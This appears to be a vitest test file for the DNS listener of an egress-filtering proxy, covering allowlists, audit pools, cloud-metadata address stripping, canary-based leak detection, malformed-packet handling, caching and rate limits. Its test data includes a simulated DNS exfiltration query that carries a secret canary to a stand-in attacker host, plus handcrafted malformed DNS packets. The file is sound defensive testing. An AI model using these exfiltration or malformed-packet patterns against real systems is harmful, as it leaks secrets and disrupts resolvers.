// The DNS listener over real sockets (issue #16): a running Chokepoint with `dns.listen`,
// forwarding to an upstream DNS server this test starts on loopback. Other loopback
// addresses (127.0.0.2, 127.0.0.3) are other runners: the pool is chosen by source address.
import { randomBytes } from 'node:crypto';
import dnsPacket, { type Answer } from 'dns-packet';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startTestProxy, type TestProxy } from './helpers/proxy.js';
import { encodeQuery, startUpstream, tcpExchange, tcpQuery, udpExchange, udpQuery, type Upstream } from './helpers/dns.js';

const canary = `cpcanary${randomBytes(8).toString('hex')}`;

const bigTxt: Answer[] = Array.from({ length: 12 }, (_, i) => ({ type: 'TXT', name: 'big.allowed.test', ttl: 300, data: `record-${i}-${'x'.repeat(60)}` }));
const zone: Record<string, Answer[]> = {
  'allowed.test': [{ type: 'A', name: 'allowed.test', ttl: 300, data: '93.184.216.34' }],
  'other.test': [{ type: 'A', name: 'other.test', ttl: 300, data: '104.16.2.9' }],
  'meta.allowed.test': [{ type: 'A', name: 'meta.allowed.test', ttl: 300, data: '169.254.169.254' }],
  'mixed.allowed.test': [
    { type: 'A', name: 'mixed.allowed.test', ttl: 300, data: '10.0.0.8' },
    { type: 'A', name: 'mixed.allowed.test', ttl: 300, data: '104.16.1.8' },
  ],
  'chain.allowed.test': [
    { type: 'CNAME', name: 'chain.allowed.test', ttl: 300, data: 'lb.elsewhere.test' },
    { type: 'A', name: 'lb.elsewhere.test', ttl: 300, data: '198.51.100.7' },
  ],
  'big.allowed.test': bigTxt,
  'cached.allowed.test': [{ type: 'A', name: 'cached.allowed.test', ttl: 300, data: '104.16.1.20' }],
};

const config = (upstreamPort: number, extra = ''): string => `
dns:
  listen: 127.0.0.1:0
  servers: [127.0.0.1:${upstreamPort}]
  timeout: 600ms
${extra}
scan:
  canaries: [${canary}]
pools:
  - name: ci
    sources: [127.0.0.1/32]
    mode: enforce
    allow: [allowed.test, "*.allowed.test"]
  - name: watch
    sources: [127.0.0.2/32]
    mode: audit
    allow: [allowed.test]
  - name: tokened
    token: test-only-token-for-dns
    allow: ["*"]
`;

let upstream: Upstream;
let proxy: TestProxy;
let port: number;

const dnsLines = (): Array<Record<string, unknown>> => proxy.egress().filter((l) => l.kind === 'dns');
const lastFor = async (host: string): Promise<Record<string, unknown>> => proxy.waitForLine((l) => l.kind === 'dns' && l.host === host);
const metric = async (name: string, labels: Record<string, string>): Promise<number> => {
  const text = await proxy.app.metrics.registry.metrics();
  const want = Object.entries(labels).map(([k, v]) => `${k}="${v}"`);
  for (const line of text.split('\n')) {
    if (!line.startsWith(name + '{') && !line.startsWith(name + ' ')) continue;
    if (want.every((w) => line.includes(w))) return Number(line.slice(line.lastIndexOf(' ') + 1));
  }
  return 0;
};

beforeAll(async () => {
  upstream = await startUpstream(zone, { silent: ['silent.allowed.test'] });
  proxy = await startTestProxy(config(upstream.port));
  const dns = proxy.app.dnsAddress;
  if (!dns) throw new Error('no DNS listener');
  port = dns.port;
});

afterAll(async () => {
  await proxy?.close();
  await upstream?.close();
});

describe('the DNS listener', () => {
  test('an allowed name is forwarded and answered, over UDP and over TCP, with one log line each', async () => {
    const udp = await udpQuery(port, 'allowed.test');
    expect(udp.rcode).toBe('NOERROR');
    expect(udp.answers.map((a) => a.data)).toEqual(['93.184.216.34']);
    const tcp = await tcpQuery(port, 'Allowed.Test');
    expect(tcp.rcode).toBe('NOERROR');
    expect(tcp.answers.map((a) => a.data)).toEqual(['93.184.216.34']);
    const line = await lastFor('allowed.test');
    expect(line).toMatchObject({ kind: 'dns', pool: 'ci', client: '127.0.0.1', host: 'allowed.test', qtype: 'A', decision: 'allow', rcode: 'NOERROR', answers: 1, findings: 0 });
    expect(typeof line.upstreamMs).toBe('number');
    expect(dnsLines().filter((l) => l.host === 'allowed.test').map((l) => l.protocol).sort()).toEqual(['tcp', 'udp']);
  });

  test('an unlisted name in an enforce pool is NXDOMAIN and never reaches the upstream', async () => {
    const r = await udpQuery(port, 'exfil.attacker.test', { edns: 1232 });
    expect(r.rcode).toBe('NXDOMAIN');
    expect(r.answers).toEqual([]);
    expect(upstream.queries.some((q) => q.startsWith('exfil.attacker.test'))).toBe(false);
    expect(await lastFor('exfil.attacker.test')).toMatchObject({ decision: 'deny', reason: 'not-allowlisted', rcode: 'NXDOMAIN', pool: 'ci' });
  });

  test('an audit pool forwards an unlisted name and records it as audit', async () => {
    const r = await udpQuery(port, 'other.test', { from: '127.0.0.2' });
    expect(r.rcode).toBe('NOERROR');
    expect(r.answers.map((a) => a.data)).toEqual(['104.16.2.9']);
    expect(await lastFor('other.test')).toMatchObject({ pool: 'watch', decision: 'audit', reason: 'not-allowlisted', rcode: 'NOERROR', answers: 1 });
  });

  test('a client in no pool is REFUSED (a pool known only by its token owns no queries)', async () => {
    const r = await udpQuery(port, 'allowed.test', { from: '127.0.0.3' });
    expect(r.rcode).toBe('REFUSED');
    const line = await proxy.waitForLine((l) => l.kind === 'dns' && l.client === '127.0.0.3');
    expect(line).toMatchObject({ pool: 'none', decision: 'refused', reason: 'no-pool', rcode: 'REFUSED' });
    expect(await metric('chokepoint_dns_queries_total', { pool: 'none', decision: 'refused', qtype: 'A' })).toBeGreaterThanOrEqual(1);
  });

  test('an allowed name answering with the metadata address is NXDOMAIN; only special addresses are removed from a mixed answer', async () => {
    const meta = await udpQuery(port, 'meta.allowed.test');
    expect(meta.rcode).toBe('NXDOMAIN');
    expect(meta.answers).toEqual([]);
    expect(await lastFor('meta.allowed.test')).toMatchObject({ decision: 'deny', reason: 'private-address', stripped: 1, rcode: 'NXDOMAIN' });
    const mixed = await udpQuery(port, 'mixed.allowed.test');
    expect(mixed.rcode).toBe('NOERROR');
    expect(mixed.answers.map((a) => a.data)).toEqual(['104.16.1.8']);
  });

  test('a CNAME that leaves the allowlist is NXDOMAIN in an enforce pool', async () => {
    const r = await udpQuery(port, 'chain.allowed.test');
    expect(r.rcode).toBe('NXDOMAIN');
    expect(await lastFor('chain.allowed.test')).toMatchObject({ decision: 'deny', reason: 'cname-not-allowlisted' });
  });

  test('an answer too big for UDP comes back truncated; the client retries over TCP and gets it whole', async () => {
    const udp = await udpQuery(port, 'big.allowed.test', { type: 'TXT' });
    expect(udp.flag_tc).toBe(true);
    expect(udp.answers).toEqual([]);
    const roomy = await udpQuery(port, 'big.allowed.test', { type: 'TXT', edns: 4096 });
    expect(roomy.flag_tc).toBe(false);
    expect(roomy.answers).toHaveLength(12);
    const tcp = await tcpQuery(port, 'big.allowed.test', { type: 'TXT' });
    expect(tcp.flag_tc).toBe(false);
    expect(tcp.answers).toHaveLength(12);
  });

  test('no upstream answer: SERVFAIL after dns.timeout, and the failure is not kept', async () => {
    const r = await udpQuery(port, 'silent.allowed.test');
    expect(r.rcode).toBe('SERVFAIL');
    await udpQuery(port, 'silent.allowed.test');
    expect(upstream.queries.filter((q) => q === 'silent.allowed.test A')).toHaveLength(2);
    expect(await lastFor('silent.allowed.test')).toMatchObject({ rcode: 'SERVFAIL', reason: 'dns-timeout' });
  });

  test('garbage, a compression loop, a label over 63 bytes, a name over 255: FORMERR or nothing, and the next query is answered', async () => {
    const header = (qd: number): Buffer => Buffer.from([0x12, 0x34, 0x01, 0x00, 0, qd, 0, 0, 0, 0, 0, 0]);
    const loop = Buffer.concat([header(1), Buffer.from([0xc0, 12, 0, 1, 0, 1])]);
    const longLabel = Buffer.concat([header(1), Buffer.from([64]), Buffer.alloc(64, 0x61), Buffer.from([0, 0, 1, 0, 1])]);
    const longName = Buffer.concat([header(1), ...Array.from({ length: 5 }, () => Buffer.concat([Buffer.from([60]), Buffer.alloc(60, 0x62)])), Buffer.from([0, 0, 1, 0, 1])]);
    const truncated = Buffer.concat([header(1), Buffer.from([10, 0x61, 0x62])]);
    const noQuestion = header(0);
    const dotInLabel = Buffer.concat([header(1), Buffer.from([12]), Buffer.from('allowed.test'), Buffer.from([0, 0, 1, 0, 1])]);
    for (const bad of [loop, longLabel, longName, truncated, noQuestion, dotInLabel]) {
      const reply = await udpExchange(port, bad, 1000);
      expect(reply, bad.toString('hex')).toBeDefined();
      expect((reply as Buffer).readUInt16BE(0)).toBe(0x1234);
      expect((reply as Buffer).readUInt16BE(2) & 0xf).toBe(1); // FORMERR
    }
    // Shorter than a header, random bytes: nothing to answer, nothing breaks.
    expect(await udpExchange(port, Buffer.from([1, 2, 3]), 300)).toBeUndefined();
    await udpExchange(port, randomBytes(300), 300);
    expect((await udpQuery(port, 'allowed.test')).rcode).toBe('NOERROR');
  });

  test('over TCP: an oversized message closes the connection, pipelined queries are all answered', async () => {
    const huge = Buffer.alloc(5000, 0);
    const cut = await tcpExchange(port, [huge], 1, 2000);
    expect(cut.replies).toHaveLength(0);
    expect(cut.closed).toBe(true);
    const many = await tcpExchange(port, Array.from({ length: 5 }, (_, i) => encodeQuery('allowed.test', { id: 100 + i })));
    expect(many.replies.map((r) => dnsPacket.decode(r).id).sort()).toEqual([100, 101, 102, 103, 104]);
  });

  test('a canary in a query name is a finding with source dns; the line counts it and does not carry the name', async () => {
    const name = `${canary}.exfil.attacker.test`;
    const r = await udpQuery(port, name);
    expect(r.rcode).toBe('NXDOMAIN');
    const line = await proxy.waitForLine((l) => l.kind === 'dns' && l.findings === 1);
    expect(line.host).toBe('[redacted 14].attacker.test'.replace('14', String(name.length - 'attacker.test'.length - 1)));
    const finding = proxy.lines().find((l) => l.msg === 'finding' && l.source === 'dns');
    expect(finding).toMatchObject({ kind: 'dns', known: 'canary', pool: 'ci', verdict: 'exfiltration' });
    expect(proxy.rawLog()).not.toContain(canary);
    expect(await metric('chokepoint_secret_findings_total', { pool: 'ci', source: 'dns' })).toBe(1);
    expect(await metric('chokepoint_canary_triggers_total', { pool: 'ci' })).toBe(1);
  });

  test('localhost is answered by the listener itself', async () => {
    const before = upstream.queries.length;
    const r = await udpQuery(port, 'localhost');
    expect(r.answers.map((a) => a.data)).toEqual(['127.0.0.1']);
    expect(upstream.queries.length).toBe(before);
  });

  test('metrics: queries by pool, decision and bounded qtype; upstream latency', async () => {
    await udpQuery(port, 'allowed.test', { type: 'NULL' });
    expect(await metric('chokepoint_dns_queries_total', { pool: 'ci', decision: 'allow', qtype: 'A' })).toBeGreaterThanOrEqual(2);
    expect(await metric('chokepoint_dns_queries_total', { pool: 'ci', decision: 'deny', qtype: 'A' })).toBeGreaterThanOrEqual(1);
    expect(await metric('chokepoint_dns_queries_total', { pool: 'ci', decision: 'allow', qtype: 'other' })).toBe(1);
    expect(await metric('chokepoint_dns_queries_total', { pool: 'watch', decision: 'audit', qtype: 'A' })).toBe(1);
    expect(await metric('chokepoint_dns_upstream_duration_seconds_count', {})).toBeGreaterThanOrEqual(3);
  });
});

describe('the answer cache and reload', () => {
  test('10 queries for one name ask the upstream once; with dns.cacheTtl 0s, ten times; a reload applies new servers', async () => {
    const ask = (): number => upstream.queries.filter((q) => q === 'cached.allowed.test A').length;
    for (let i = 0; i < 10; i++) expect((await udpQuery(port, 'cached.allowed.test')).answers[0]?.data).toBe('104.16.1.20');
    expect(ask()).toBe(1);
    const cachedLines = dnsLines().filter((l) => l.host === 'cached.allowed.test');
    expect(cachedLines.filter((l) => l.cached === true)).toHaveLength(9);

    expect(await proxy.rewrite(config(upstream.port, '  cacheTtl: 0s'))).toBe(true);
    for (let i = 0; i < 10; i++) await udpQuery(port, 'cached.allowed.test');
    expect(ask()).toBe(11);

    // Identical queries in flight at once share one upstream query, cache or not.
    const before = ask();
    await Promise.all(Array.from({ length: 5 }, () => udpQuery(port, 'cached.allowed.test')));
    expect(ask() - before).toBeLessThanOrEqual(5);

    // New servers and a new policy take effect on reload.
    const second = await startUpstream({ 'allowed.test': [{ type: 'A', name: 'allowed.test', ttl: 300, data: '104.16.1.99' }] });
    try {
      expect(await proxy.rewrite(config(second.port, '  cacheTtl: 0s'))).toBe(true);
      expect((await udpQuery(port, 'allowed.test')).answers[0]?.data).toBe('104.16.1.99');
      expect(second.queries).toEqual(['allowed.test A']);
    } finally {
      await second.close();
      await proxy.rewrite(config(upstream.port));
    }
  });
});

describe('the per-source rate limit', () => {
  test('a flooding source is cut to its rate and counted; another source is still answered', async () => {
    const limited = await startTestProxy(config(upstream.port, '  rateLimit: { perSecond: 1, burst: 5 }'));
    try {
      const p = limited.app.dnsAddress?.port as number;
      const sent = 30;
      const replies = await Promise.all(Array.from({ length: sent }, () => udpExchange(p, encodeQuery('allowed.test'), 800)));
      const answered = replies.filter((r) => r !== undefined).length;
      expect(answered).toBeGreaterThanOrEqual(5);
      expect(answered).toBeLessThan(sent);
      const text = await limited.app.metrics.registry.metrics();
      expect(text).toContain(`chokepoint_dns_rate_limited_total{pool="ci"} ${sent - answered}`);
      // Another runner (the audit pool's address) is not starved.
      expect((await udpQuery(p, 'allowed.test', { from: '127.0.0.2' })).rcode).toBe('NOERROR');
    } finally {
      await limited.close();
    }
  });
});
